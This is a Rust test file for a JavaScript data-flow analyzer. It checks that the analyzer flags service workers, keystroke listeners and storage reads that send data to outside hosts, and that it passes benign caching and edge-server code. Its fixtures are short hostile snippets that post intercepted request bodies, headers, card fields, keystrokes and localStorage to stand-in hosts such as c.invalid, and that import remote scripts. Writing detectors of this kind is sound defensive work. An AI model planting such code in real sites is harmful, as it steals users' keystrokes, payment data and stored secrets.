//! What pages and their service workers are told, and where it goes.

use foretaste_javascript::observe;
use foretaste_model::Limits;

fn flows(code: &str) -> Vec<String> {
    let facts = observe("a.js", code, &Limits::default());
    let flow = |f: &foretaste_model::facts::Flow| {
        let steps: Vec<_> = f.steps.iter().map(|s| &*s.api).collect();
        steps.join(" > ")
    };
    facts.flows.iter().map(flow).collect()
}

const WORKER: &str = "self.addEventListener('install', () => self.skipWaiting());\n";

#[test]
fn what_a_service_worker_sees_is_followed() {
    let cases = [
        (
            "const look = async (r) => { const body = await r.clone().text(); fetch('https://c.invalid/f', { method: 'POST', body: JSON.stringify({ u: r.url, body }) }) };
             self.addEventListener('fetch', (e) => { const r = e.request; if (r.method === 'POST') e.waitUntil(look(r)); });",
            "FetchEvent.request.text > JSON.stringify > fetch",
        ),
        (
            "self.onfetch = (e) => navigator.sendBeacon('https://c.invalid', JSON.stringify([...e.request.headers]));",
            "FetchEvent.request.headers > JSON.stringify > navigator.sendBeacon",
        ),
        (
            "addEventListener('fetch', ({ request }) => request.json().then((b) => fetch('https://c.invalid/?d=' + btoa(b.card))));",
            "FetchEvent.request.json > btoa > fetch",
        ),
    ];
    for (code, wanted) in cases {
        let found = flows(&format!("{WORKER}{code}"));
        assert!(found.iter().any(|f| f == wanted), "{code}: {found:?}");
    }
    for code in [
        // a cache, and a network that is asked for what the page asks for
        "self.addEventListener('fetch', (e) => e.respondWith(caches.match(e.request).then((hit) => hit || fetch(e.request))));",
        "self.addEventListener('fetch', (e) => { const u = new URL(e.request.url); e.respondWith(fetch('https://mirror.invalid' + u.pathname)); });",
    ] {
        let found = flows(&format!("{WORKER}{code}"));
        assert!(found.is_empty(), "{code}: {found:?}");
    }
    // a server at the edge answers requests that are meant for it
    let server = "addEventListener('fetch', (e) => e.respondWith(e.request.text().then((body) => fetch('https://backend.invalid', { method: 'POST', body }))));";
    assert!(flows(server).is_empty());
}

#[test]
fn scripts_of_other_machines_are_code() {
    let loads = |code: &str| flows(code).contains(&"importScripts > importScripts".to_owned());
    for code in [
        "importScripts('https://edge.invalid/r.js');",
        "const FEED = 'https://edge.' + 'x.invalid'; try { importScripts('./own.js', FEED + '/r.js') } catch {}",
        "self.importScripts(`//edge.invalid/${id}.js`);",
    ] {
        assert!(loads(code), "{code}");
    }
    for code in [
        "importScripts('./own.js', '/vendor/worker.js');",
        "importScripts('https://c.invalid/releases/6.4.1/workbox-sw.js');",
        "importScripts(base + '/worker.js');",
    ] {
        assert!(!loads(code), "{code}");
    }
}

#[test]
fn keys_that_are_pressed_and_stores_are_followed() {
    for (code, wanted) in [
        (
            "let typed = ''; document.addEventListener('keydown', (e) => { typed += e.key; if (typed.length > 20) fetch('https://c.invalid/k', { method: 'POST', body: typed }) });",
            "KeyboardEvent.key > fetch",
        ),
        (
            "const field = document.querySelector('#pin'); field.addEventListener('keypress', (e) => { new Image().src = 'https://c.invalid/?k=' + e.key });",
            "KeyboardEvent.key > Image.src",
        ),
        (
            "document.onkeyup = ({ key }) => navigator.sendBeacon('https://c.invalid', key);",
            "KeyboardEvent.key > navigator.sendBeacon",
        ),
        (
            "fetch('https://c.invalid', { method: 'POST', body: JSON.stringify({ ...localStorage }) });",
            "localStorage > JSON.stringify > fetch",
        ),
    ] {
        let found = flows(code);
        assert!(found.iter().any(|f| f == wanted), "{code}: {found:?}");
    }
    for code in [
        "addEventListener('keydown', (e) => { if (e.key === 'Enter') fetch('https://c.invalid/search', { method: 'POST', body: q.value }) });",
        // a terminal: where it is connected to, its user says
        "const ws = new WebSocket(url); addEventListener('keydown', (e) => ws.send(e.key));",
    ] {
        let found = flows(code);
        assert!(
            !found.iter().any(|f| f.starts_with("Keyboard")),
            "{code}: {found:?}"
        );
    }
}
